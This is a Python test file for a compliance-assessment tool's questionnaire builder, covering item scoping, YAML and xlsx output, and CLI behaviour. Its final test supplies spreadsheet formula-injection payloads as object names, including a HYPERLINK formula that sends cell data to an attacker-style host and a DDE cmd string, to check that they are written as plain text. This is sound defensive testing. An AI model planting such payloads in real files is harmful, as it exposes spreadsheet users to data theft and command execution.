"""The questionnaire: which item × object needs an answer, and the YAML/xlsx forms it is written as."""

from __future__ import annotations

from click.testing import CliRunner
from openpyxl import load_workbook

from assess.catalog import load as catalog_mod
from assess.catalog import profile as profile_mod
from assess.cli import main
from assess.inputs import answers, questionnaire
from assess.inventory.load import interview_objects
from assess.judge import evaluate
from assess.model import Target
from assess.yamlio import load_file
from tests.answers.common import TODAY, mini, scope, targets, write


def test_scope_kinds_follow_the_evaluation_engine():
    _cat, pairs = scope()
    kinds = {key: p.kind for key, p in pairs.items()}
    assert kinds == {
        ("L3-CES1-01", "web-1"): "automated",   # automated item, checks for linux
        ("L3-CES1-02", "web-1"): "partial",     # partial item: checks plus an interview
        ("L3-CES1-01", "db-1"): "convention",   # database convention: 不适用
        ("L3-CES1-03", "system"): "uncovered",  # no webapp in the inventory
    }
    assert pairs[("L3-CES1-02", "web-1")].checks == ("t.min_len",)
    assert [(p.item.id, p.target.id) for p in questionnaire.asked(pairs)] == [
        ("L3-CES1-02", "web-1"), ("L3-CES1-03", "system")]


def test_tailored_items_are_not_asked(tmp_path):
    cat, _prof = mini()
    prof = profile_mod.load(str(write(tmp_path / "p.yaml", """
        id: tailored
        title: t
        level: 3
        extends: level3
        tailoring: {L3-CES1-03: no web application in scope}
    """)), cat)
    pairs = questionnaire.scope(cat, prof, targets())
    assert pairs[("L3-CES1-03", "system")].kind == "tailored"
    assert ("L3-CES1-03", "system") not in {(p.item.id, p.target.id) for p in questionnaire.asked(pairs)}


def test_every_shipped_item_is_asked_or_decided_without_an_answer():
    """All 211 items: each is in the questionnaire on some object, or decided by checks or a convention."""
    cat = catalog_mod.load()
    prof = profile_mod.load("level3", cat)
    local = Target(id="host", type="linux", connection={"transport": "local"})
    pairs = questionnaire.scope(cat, prof, [local, *interview_objects()])
    items = {i for (i, _o) in pairs}
    assert items == set(cat.items) and len(items) == 211
    for (item_id, _o), pair in pairs.items():
        if cat.items[item_id].automation == "manual":
            assert pair.kind in questionnaire.ASKED, item_id
        if pair.target.type in ("site", "organization"):
            assert pair.kind == "interview"
    # the classification is the engine's: without evidence, manual exactly where the answer alone decides
    for r in evaluate.evaluate_target(cat, prof, local, {}):
        kind = pairs[(r.item, "host")].kind
        assert (r.verdict == "manual") == (kind == "interview"), r.item
        assert (r.source == "checks") == (kind in ("partial", "automated")), r.item


def test_yaml_form_parses_and_holds_no_answers(tmp_path):
    cat, prof = mini()
    _c, pairs = scope()
    asked = questionnaire.asked(pairs)
    text = questionnaire.to_yaml(asked, questionnaire.header(cat, prof, "2026-06-15T00:00:00Z", "inv.yaml"),
                                 "answers.yaml")
    path = write(tmp_path / "answers.yaml", text)
    data = load_file(path)
    assert data["questionnaire"]["format"] == questionnaire.FORMAT
    first = data["answers"][0]
    assert first["item"] == "L3-CES1-02" and first["object"] == "web-1" and first["kind"] == "partial"
    assert first["questions"] == ["登录失败如何处理？"] and first["checks"] == ["t.min_len"]
    assert first["answer"] is None and first["attachments"] == []
    loaded = answers.load(path, cat, pairs, TODAY)
    assert loaded.entries == 2 and loaded.answers == {}


def test_xlsx_form_has_the_columns_and_a_row_per_entry(tmp_path):
    cat, prof = mini()
    _c, pairs = scope()
    out = tmp_path / "answers.xlsx"
    questionnaire.to_xlsx(questionnaire.asked(pairs), questionnaire.header(cat, prof, "now", "inv"), out)
    wb = load_workbook(out)
    ws = wb[questionnaire.SHEET]
    head = [c.value for c in ws[1]]
    assert head[0] == "测评项编号\nitem" and "结论\nanswer" in head
    assert [ws.cell(row=r, column=1).value for r in (2, 3)] == ["L3-CES1-02", "L3-CES1-03"]
    assert ws.cell(row=2, column=9).value == "1. 登录失败如何处理？"
    assert ws.data_validations.dataValidation[0].formula1.startswith('"pass,partial,fail,na')
    assert dict(wb[questionnaire.META_SHEET].iter_rows(values_only=True))["format"] == questionnaire.FORMAT
    entries, meta = answers.read_entries(out)
    assert len(entries) == 2 and meta["profile"] == "level3"


def test_cli_init_writes_and_refuses_to_overwrite(tmp_path):
    runner = CliRunner()
    out = tmp_path / "answers.yaml"
    args = ["questionnaire", "init", "--controls", str(mini()[0].root), "-o", str(out)]
    result = runner.invoke(main, args)
    assert result.exit_code == 0, result.output
    assert "entries" in result.stdout and out.is_file()
    again = runner.invoke(main, args)
    assert again.exit_code == 2 and "already exists" in again.stderr
    assert runner.invoke(main, args + ["--force"]).exit_code == 0
    bad = runner.invoke(main, ["questionnaire", "init", "-o", str(tmp_path / "a.txt")])
    assert bad.exit_code == 2 and "cannot tell the format" in bad.stderr
    clash = runner.invoke(main, ["questionnaire", "init", "-o", str(tmp_path / "a.yaml"), "--format", "xlsx"])
    assert clash.exit_code == 2 and "does not match" in clash.stderr


def test_cli_init_xlsx_for_the_shipped_catalog(tmp_path):
    out = tmp_path / "q.xlsx"
    result = CliRunner().invoke(main, ["questionnaire", "init", "-o", str(out), "--format", "xlsx"])
    assert result.exit_code == 0, result.output
    ws = load_workbook(out, read_only=True)[questionnaire.SHEET]
    items = {row[0] for row in ws.iter_rows(min_row=2, values_only=True)}
    assert "L3-PES1-03" in items and "L3-MMS1-01" in items and len(items) > 200


def test_xlsx_form_writes_object_names_as_text_never_as_formulas(tmp_path):
    """An inventory's object name is someone else's text: `=HYPERLINK(...)` must not become a live formula."""
    import zipfile

    cat, prof = mini()
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    hosts = [Target(id=f"h{i}", type="linux", name=name) for i, name in enumerate(hostile)]
    pairs = questionnaire.scope(cat, prof, hosts)
    out = tmp_path / "answers.xlsx"
    questionnaire.to_xlsx(questionnaire.asked(pairs), questionnaire.header(cat, prof, "now", "inv"), out)
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    ws = load_workbook(out)[questionnaire.SHEET]
    column = next(c.column for c in ws[1] if str(c.value or "").endswith("object_name"))  # by heading
    names = {ws.cell(row=r, column=column).value: ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)}
    assert set(hostile) <= set(names)
    assert all(names[h].data_type == "s" and names[h].quotePrefix for h in hostile)
